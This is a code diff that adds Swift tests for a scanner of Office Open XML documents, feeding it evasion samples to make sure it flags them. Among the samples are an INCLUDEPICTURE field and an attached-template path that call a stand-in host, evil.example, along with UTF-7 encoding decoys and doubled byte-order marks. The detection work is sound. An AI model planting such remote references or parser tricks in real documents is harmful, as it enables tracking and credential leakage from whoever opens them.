@@ -65,3 +65,46 @@ struct Round10Tests {
         for part in parts { #expect(Self.findings(part, name: "ppt/presentation.xml", links: []).isEmpty, "\(part)") }
     }
 }
+
+/// Attack round 11: XML's end-of-line handling in attribute values, the declaration's own `encoding` as the only one
+/// on the first line, a decoy attribute in another namespace, a second byte-order mark.
+struct Round11Tests {
+    @Test(arguments: ["<a:blip r:link=\"rId\r\n1\"/>", "<a:blip r:link=\"rId\r1\"/>"])
+    func lineEndsInAnAttributeValueAreOneSpace(_ blip: String) {
+        #expect(!Round10Tests.findings("<xdr:wsDr><xdr:pic>\(blip)</xdr:pic></xdr:wsDr>", links: ["rId 1"]).isEmpty, "\(blip.debugDescription)")
+    }
+
+    @Test(arguments: [
+        "<?xml-stylesheet href=\" encoding='UTF-7'\"?><Relationships/>",
+        "<?xml version=\"1.0\" standalone=\" encoding='UTF-7'yes\"?><Relationships/>",
+        "<?xml-x encoding?><!--='UTF-8'?><Relationships/>",
+    ])
+    func onlyTheDeclarationsOwnEncodingMayBeTheFirstOnItsLine(_ part: String) {
+        #expect(Round10Tests.findings(part, name: "xl/drawings/_rels/drawing1.xml.rels", links: []).contains { $0.contains("first line") }, "\(part)")
+    }
+
+    /// .NET's XmlWriter writes a whole part on one line: a later mention of "encoding" in text is no encoding.
+    @Test func aOneLinePartMentioningEncodingInItsTextStaysClean() {
+        let part =
+            "<?xml version=\"1.0\" encoding=\"utf-8\"?><worksheet><sheetData><row><c t=\"inlineStr\"><is><t>Video encoding settings</t></is></c></row></sheetData></worksheet>"
+        #expect(Round10Tests.findings(part, name: "xl/worksheets/sheet1.xml", links: []).isEmpty)
+    }
+
+    @Test(arguments: [
+        #"<w:fldSimple instr=" PAGE " w:instr=" INCLUDEPICTURE &quot;http://evil.example/x.png&quot; \d "/>"#,
+        #"<w:attachedTemplate val="Normal.dotm" w:val="\\evil.example\share\t.dotm"/>"#,
+    ])
+    func aDecoyAttributeInAnotherNamespaceIsFound(_ element: String) {
+        #expect(!Round10Tests.findings("<w:document>\(element)</w:document>", name: "word/document.xml", links: []).isEmpty, "\(element)")
+    }
+
+    @Test(
+        arguments: [
+            [0xEF, 0xBB, 0xBF, 0xEF, 0xBB, 0xBF, 0x3C], [0xEF, 0xBB, 0xBF, 0xFF, 0xFE, 0x3C, 0x00], [0xEF, 0xBB, 0xBF, 0x00, 0x00, 0x00, 0x3C],
+        ] as [[UInt8]]
+    )
+    func aSecondByteOrderMarkIsFound(_ head: [UInt8]) {
+        #expect(OOXMLParts.unreadableXMLEncoding(head) != nil)
+        #expect(OOXMLParts.unreadableXMLEncoding([0xEF, 0xBB, 0xBF, 0x3C, 0x61]) == nil)
+    }
+}
